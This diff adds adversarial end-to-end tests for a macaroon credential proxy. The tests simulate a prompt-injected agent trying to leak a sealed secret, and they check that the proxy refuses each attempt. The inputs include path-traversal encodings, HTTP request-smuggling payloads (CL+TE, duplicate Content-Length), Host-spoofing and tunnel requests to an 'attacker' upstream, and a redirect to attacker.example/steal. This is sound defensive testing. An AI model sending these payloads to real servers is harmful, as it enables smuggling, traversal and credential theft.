@@ -1,0 +1,427 @@
+//! Adversarial end-to-end tests: a prompt-injected agent holding a token, with a
+//! recording sealed upstream and a second "attacker" upstream. Each asserts that no secret
+//! reached a host it was not sealed for, that nothing reached an upstream before the
+//! decision, that the error is clear, and that the proxy keeps serving.
+
+use std::io::{Read, Write};
+use std::net::TcpStream;
+use std::time::Duration;
+
+use e2e::upstream::Upstream;
+use e2e::{ProxyProcess, Session};
+
+use crate::world::{bearer, curl, HOST, OTHER, SECRET};
+
+struct Arena {
+    s: Session,
+    sealed: Upstream,
+    attacker: Upstream,
+    proxy: ProxyProcess,
+    token: String,
+}
+
+fn arena(extra: &[&str]) -> Arena {
+    let s = Session::new();
+    s.run("macaroon-proxy", &["keygen"]).ok();
+    let token = s
+        .run_stdin("macaroon", &["wrap", "api", "--host", HOST], SECRET)
+        .ok()
+        .out()
+        .to_string();
+    let sealed = Upstream::start(&[HOST]);
+    let attacker = Upstream::start(&[OTHER]);
+    let mut flags = vec![
+        "--resolve".to_string(),
+        format!("{OTHER}={}", attacker.addr),
+        "--upstream-ca".to_string(),
+        attacker.ca_path.display().to_string(),
+    ];
+    flags.extend(extra.iter().map(|s| s.to_string()));
+    let flags: Vec<&str> = flags.iter().map(String::as_str).collect();
+    let proxy = s.start_proxy(&sealed, &[HOST], &flags);
+    Arena {
+        s,
+        sealed,
+        attacker,
+        proxy,
+        token,
+    }
+}
+
+impl Arena {
+    /// The invariants after an attack: the attacker host saw no secret (nothing at all
+    /// here), the sealed upstream saw only `sealed_requests` requests, and the proxy still
+    /// serves a good request.
+    fn assert_held(&self, sealed_requests: usize) {
+        assert!(
+            self.attacker.seen().is_empty(),
+            "the attacker upstream was reached: {:?}",
+            self.attacker.seen()
+        );
+        assert_eq!(
+            self.sealed.seen().len(),
+            sealed_requests,
+            "unexpected requests reached the upstream"
+        );
+        let audit = std::fs::read_to_string(&self.proxy.audit_path).unwrap_or_default();
+        assert!(
+            !audit.contains(SECRET) && !audit.contains(&self.token[..60]),
+            "secret or token in the audit log"
+        );
+        let ok = curl(&[&format!("{}/v1/ok", self.proxy.url()), "-H", &bearer(&self.token)]);
+        assert_eq!(ok.status, 200, "the proxy stopped serving");
+        assert_eq!(self.sealed.seen().len(), sealed_requests + 1);
+    }
+}
+
+/// Sends raw bytes to the proxy and returns what it answered (until it closes or 5 s).
+fn raw(p: &ProxyProcess, request: &[u8]) -> String {
+    let mut tcp = TcpStream::connect(p.addr).expect("connect");
+    tcp.set_read_timeout(Some(Duration::from_secs(5)))
+        .expect("timeout");
+    tcp.write_all(request).expect("write");
+    let mut out = Vec::new();
+    let mut buf = [0u8; 4096];
+    loop {
+        match tcp.read(&mut buf) {
+            Ok(0) | Err(_) => break,
+            Ok(n) => {
+                out.extend_from_slice(&buf[..n]);
+                // One response is enough: stop once headers and a short body are in.
+                if out.windows(4).any(|w| w == b"\r\n\r\n")
+                    && out.len() > 64
+                    && !out.starts_with(b"HTTP/1.1 200")
+                {
+                    break;
+                }
+            }
+        }
+    }
+    String::from_utf8_lossy(&out).into_owned()
+}
+
+fn status(response: &str) -> u16 {
+    response
+        .split(' ')
+        .nth(1)
+        .and_then(|s| s.parse().ok())
+        .unwrap_or(0)
+}
+
+#[test]
+fn host_header_spoofing_in_reverse_mode_changes_nothing() {
+    let a = arena(&[]);
+    let r = curl(&[
+        &format!("{}/v1/charges", a.proxy.url()),
+        "-H",
+        &bearer(&a.token),
+        "-H",
+        &format!("Host: {OTHER}"),
+    ]);
+    assert_eq!(r.status, 200);
+    assert_eq!(
+        a.sealed.seen()[0].authority,
+        HOST,
+        "reverse mode always goes to the first sealed host"
+    );
+    a.assert_held(1);
+}
+
+#[test]
+fn absolute_uri_and_host_header_must_agree() {
+    let a = arena(&[]);
+    let proxy = a.proxy.url();
+    for (url, host) in [
+        (format!("http://{HOST}/x"), OTHER),
+        (format!("http://{OTHER}/x"), HOST),
+    ] {
+        let r = curl(&[
+            "--proxy",
+            &proxy,
+            &url,
+            "-H",
+            &bearer(&a.token),
+            "-H",
+            &format!("Host: {host}"),
+        ]);
+        assert_eq!(r.status, 403, "{url} with Host {host}");
+    }
+    a.assert_held(0);
+}
+
+#[test]
+fn tunnel_to_an_unsealed_host_with_a_spoofed_inner_host_is_refused() {
+    let a = arena(&[]);
+    let ca = a.s.home().join("ca.pem").display().to_string();
+    let proxy = a.proxy.url();
+    // CONNECT to the attacker, then claim the sealed host inside: the tunnel's authority wins.
+    let r = curl(&[
+        "--proxy",
+        &proxy,
+        "--cacert",
+        &ca,
+        &format!("https://{OTHER}/steal"),
+        "-H",
+        &bearer(&a.token),
+        "-H",
+        &format!("Host: {HOST}"),
+        "--http1.1",
+    ]);
+    assert_eq!(r.status, 403);
+    assert!(String::from_utf8_lossy(&r.body).contains("authority_mismatch"));
+    // And without the spoofed Host: the attacker is simply not a sealed host.
+    let r = curl(&[
+        "--proxy",
+        &proxy,
+        "--cacert",
+        &ca,
+        &format!("https://{OTHER}/steal"),
+        "-H",
+        &bearer(&a.token),
+    ]);
+    assert_eq!(r.status, 403);
+    a.assert_held(0);
+}
+
+#[test]
+fn every_path_trick_is_refused_before_the_upstream() {
+    let a = arena(&[]);
+    for path in [
+        "/v1/charges/../admin",
+        "/v1/charges/%2e%2e/admin",
+        "/v1/charges/%2E%2e/admin",
+        "/v1/charges%2f..%2fadmin",
+        "/v1/charges%5c..%5cadmin",
+        "/v1/charges/%252e%252e/admin",
+        "//v1/charges",
+        "/v1/charges/..;/admin",
+        "/v1/charges%00.json",
+        "/v1/%c0%ae%c0%ae/admin",
+        "/v1/./charges",
+    ] {
+        let req = format!(
+            "GET {path} HTTP/1.1\r\nHost: 127.0.0.1\r\nAuthorization: Bearer {}\r\nConnection: close\r\n\r\n",
+            a.token
+        );
+        let resp = raw(&a.proxy, req.as_bytes());
+        assert_eq!(status(&resp), 400, "{path}: {resp}");
+        assert!(resp.contains("bad_path"), "{path}: {resp}");
+    }
+    a.assert_held(0);
+}
+
+#[test]
+fn smuggling_shapes_never_reach_the_upstream_as_a_second_request() {
+    let a = arena(&[]);
+    let t = &a.token;
+    let shapes = [
+        // CL and TE together, with a smuggled request in the body.
+        format!("POST /v1/x HTTP/1.1\r\nHost: h\r\nAuthorization: Bearer {t}\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /admin HTTP/1.1\r\nHost: h\r\n\r\n"),
+        // Two different Content-Lengths.
+        format!("POST /v1/x HTTP/1.1\r\nHost: h\r\nAuthorization: Bearer {t}\r\nContent-Length: 5\r\nContent-Length: 40\r\n\r\nhelloGET /admin HTTP/1.1\r\nHost: h\r\n\r\n"),
+        // Obsolete line folding.
+        format!("GET /v1/x HTTP/1.1\r\nHost: h\r\nAuthorization: Bearer {t}\r\nX-Folded: a\r\n b\r\n\r\n"),
+        // A space before the colon.
+        format!("GET /v1/x HTTP/1.1\r\nHost: h\r\nAuthorization : Bearer {t}\r\n\r\n"),
+    ];
+    for shape in &shapes {
+        let resp = raw(&a.proxy, shape.as_bytes());
+        assert!(
+            status(&resp) == 400 || status(&resp) == 200 || status(&resp) == 401,
+            "{resp}"
+        );
+    }
+    // Whatever was accepted, no request for /admin ever reached the upstream.
+    assert!(
+        a.sealed.seen().iter().all(|s| !s.target.contains("admin")),
+        "{:?}",
+        a.sealed.seen()
+    );
+    let before = a.sealed.seen().len();
+    assert!(
+        before <= 1,
+        "at most the CL+TE request (read as chunked) may pass: {:?}",
+        a.sealed.seen()
+    );
+    a.assert_held(before);
+}
+
+#[test]
+fn oversized_heads_are_refused_and_the_proxy_keeps_serving() {
+    let a = arena(&[]);
+    let big_header = format!(
+        "GET /v1/x HTTP/1.1\r\nHost: h\r\nX-Big: {}\r\n\r\n",
+        "a".repeat(100 * 1024)
+    );
+    let resp = raw(&a.proxy, big_header.as_bytes());
+    assert!(
+        status(&resp) == 431 || status(&resp) == 400 || resp.is_empty(),
+        "{resp}"
+    );
+    let big_uri = format!("GET /{} HTTP/1.1\r\nHost: h\r\n\r\n", "a".repeat(100 * 1024));
+    let resp = raw(&a.proxy, big_uri.as_bytes());
+    assert!(
+        status(&resp) == 414 || status(&resp) == 431 || status(&resp) == 400 || resp.is_empty(),
+        "{resp}"
+    );
+    let garbage = raw(&a.proxy, b"\x16\x03\x01\x02\x00garbage-not-http\r\n\r\n");
+    assert!(status(&garbage) == 400 || garbage.is_empty(), "{garbage}");
+    a.assert_held(0);
+}
+
+#[test]
+fn many_and_huge_caveats_are_decided_without_harm() {
+    let a = arena(&[]);
+    let mut args: Vec<String> = vec!["attenuate".into(), "api".into()];
+    for i in 0..300 {
+        args.push("--caveat".into());
+        args.push(format!("path prefix /v1/{i} /v1/x"));
+    }
+    let args: Vec<&str> = args.iter().map(String::as_str).collect();
+    let many = a.s.run("macaroon", &args).ok().out().to_string();
+    let r = curl(&[&format!("{}/v1/x/1", a.proxy.url()), "-H", &bearer(&many)]);
+    assert_eq!(r.status, 200, "300 satisfied caveats still verify");
+    let huge_path = format!("/v1/{}", "a".repeat(30_000));
+    let huge =
+        a.s.run("macaroon", &["attenuate", "api", "--path", &huge_path])
+            .ok()
+            .out()
+            .to_string();
+    let r = curl(&[&format!("{}/v1/x", a.proxy.url()), "-H", &bearer(&huge)]);
+    assert_eq!(r.status, 403, "a huge caveat is just a caveat");
+    a.assert_held(1);
+}
+
+/// Rewrites the token's V2JSON caveat list and returns the re-encoded token.
+fn tamper(token: &str, f: impl Fn(&mut Vec<serde_json::Value>)) -> String {
+    let json = {
+        let s = Session::new();
+        // Convert through the CLI: attenuate with a harmless caveat in V2JSON.
+        s.run("macaroon-proxy", &["keygen"]).ok();
+        s.run(
+            "macaroon",
+            &[
+                "attenuate",
+                token,
+                "--caveat",
+                "host = api.example.test",
+                "--format",
+                "v2json",
+            ],
+        )
+        .ok()
+        .out()
+        .to_string()
+    };
+    let mut v: serde_json::Value = serde_json::from_str(&json).expect("json");
+    let mut cs = v["c"].as_array().expect("caveats").clone();
+    f(&mut cs);
+    v["c"] = serde_json::Value::Array(cs);
+    v.to_string()
+}
+
+#[test]
+fn stripped_reordered_duplicated_or_altered_caveats_break_the_signature() {
+    let a = arena(&[]);
+    let narrow =
+        a.s.run(
+            "macaroon",
+            &["attenuate", "api", "--method", "GET", "--path", "/v1/charges"],
+        )
+        .ok()
+        .out()
+        .to_string();
+    let url = format!("{}/v1/refunds", a.proxy.url());
+    let attacks: Vec<(&str, String)> = vec![
+        (
+            "stripped",
+            tamper(&narrow, |c| {
+                c.retain(|x| !x["i"].as_str().unwrap_or("").starts_with("path"))
+            }),
+        ),
+        ("reordered", tamper(&narrow, |c| c.swap(0, 1))),
+        (
+            "duplicated",
+            tamper(&narrow, |c| {
+                let first = c[0].clone();
+                c.push(first)
+            }),
+        ),
+        (
+            "altered",
+            tamper(&narrow, |c| c[1] = serde_json::json!({"i": "path prefix /v1"})),
+        ),
+    ];
+    for (what, token) in attacks {
+        let r = curl(&[&url, "-X", "POST", "-H", &bearer(&token)]);
+        assert_eq!(r.status, 401, "{what} caveats must not verify");
+        assert!(
+            String::from_utf8_lossy(&r.body).contains("signature"),
+            "{what}: {}",
+            String::from_utf8_lossy(&r.body)
+        );
+    }
+    a.assert_held(0);
+}
+
+#[test]
+fn a_token_sealed_to_another_proxy_is_refused() {
+    let a = arena(&[]);
+    let other = Session::new();
+    other.run("macaroon-proxy", &["keygen"]).ok();
+    let foreign = other
+        .run_stdin("macaroon", &["wrap", "x", "--host", HOST], "other-secret")
+        .ok()
+        .out()
+        .to_string();
+    let r = curl(&[&format!("{}/v1/x", a.proxy.url()), "-H", &bearer(&foreign)]);
+    assert_eq!(r.status, 401);
+    assert!(
+        String::from_utf8_lossy(&r.body).contains("does not hold"),
+        "{}",
+        String::from_utf8_lossy(&r.body)
+    );
+    a.assert_held(0);
+}
+
+#[test]
+fn a_broken_upstream_is_a_502_and_a_slow_one_a_504() {
+    let a = arena(&["--upstream-timeout", "1s"]);
+    let r = curl(&[&format!("{}/reset", a.proxy.url()), "-H", &bearer(&a.token)]);
+    assert_eq!(r.status, 502, "{}", String::from_utf8_lossy(&r.body));
+    assert!(!String::from_utf8_lossy(&r.body).contains(SECRET));
+    let r = curl(&[&format!("{}/slow", a.proxy.url()), "-H", &bearer(&a.token)]);
+    assert_eq!(r.status, 504, "{}", String::from_utf8_lossy(&r.body));
+    a.assert_held(2);
+}
+
+#[test]
+fn a_redirect_to_the_attacker_is_returned_not_followed() {
+    let a = arena(&[]);
+    let r = curl(&[&format!("{}/redirect", a.proxy.url()), "-H", &bearer(&a.token)]);
+    assert_eq!(r.status, 302);
+    assert!(r.headers.contains("location: https://attacker.example/steal"));
+    a.assert_held(1);
+}
+
+#[test]
+fn secrets_and_tokens_never_appear_in_responses_or_logs() {
+    let a = arena(&[]);
+    let url = format!("{}/v1/x", a.proxy.url());
+    let responses = [
+        curl(&[&url, "-H", &bearer(&a.token)]),
+        curl(&[&url, "-H", &bearer(&a.token), "-X", "BREW"]),
+        curl(&[&url, "-H", &bearer(&format!("{}x", a.token))]),
+        curl(&[&format!("{}/reset", a.proxy.url()), "-H", &bearer(&a.token)]),
+    ];
+    for r in &responses {
+        let text = format!("{}{}", r.headers, String::from_utf8_lossy(&r.body));
+        assert!(!text.contains(SECRET), "secret in a response: {text}");
+        assert!(!text.contains(&a.token[20..80]), "token in a response: {text}");
+    }
+    let stderr = a.proxy.stderr();
+    assert!(
+        !stderr.contains(SECRET) && !stderr.contains(&a.token[20..80]),
+        "{stderr}"
+    );
+}
